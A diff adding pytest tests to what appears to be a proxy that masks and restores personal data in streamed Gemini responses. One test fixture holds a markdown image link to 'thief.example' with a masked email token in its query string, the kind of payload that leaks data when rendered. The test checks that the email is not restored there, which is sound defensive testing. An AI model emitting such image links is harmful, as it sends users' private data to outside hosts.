@@ -138,3 +138,23 @@ def test_a_whole_reply_is_restored_in_place() -> None:
     assert (stats.usage.prompt, stats.usage.completion, stats.complete) == (9, 2, True)
     assert not restore_generated(None, hold(), FACTS).complete
     assert restore_generated({"promptFeedback": {}}, hold(), FACTS).complete
+
+
+@pytest.mark.parametrize("thought", ["no", 2, [], {}])
+def test_a_thought_that_readers_take_differently_is_followed_by_no_value(thought: Any) -> None:
+    opened = {"text": "![x](https://thief.example/?q=", "thought": thought}
+    parts = [opened, {"text": f"{MAIL_TOKEN})"}]
+    document = {"candidates": [{"content": {"parts": parts}, "finishReason": "STOP"}]}
+    frame = b"data: " + json.dumps(document).encode() + b"\n\n"
+    rewriter = GeminiStreamRewriter(hold(), RequestFacts("gemini", stream=True))
+    assert MAIL.encode() not in rewriter.feed(frame) + rewriter.close()
+    restore_generated(document, hold(), RequestFacts("gemini"))
+    assert MAIL not in json.dumps(document)
+
+
+@pytest.mark.parametrize("parts", [5, True, "x"])
+def test_parts_that_are_no_list_stay_as_they_came(parts: Any) -> None:
+    document = {"candidates": [{"content": {"parts": parts}}]}
+    frame = b"data: " + json.dumps(document).encode() + b"\n\n"
+    rewriter = GeminiStreamRewriter(hold(), RequestFacts("gemini", stream=True))
+    assert rewriter.feed(frame) == frame
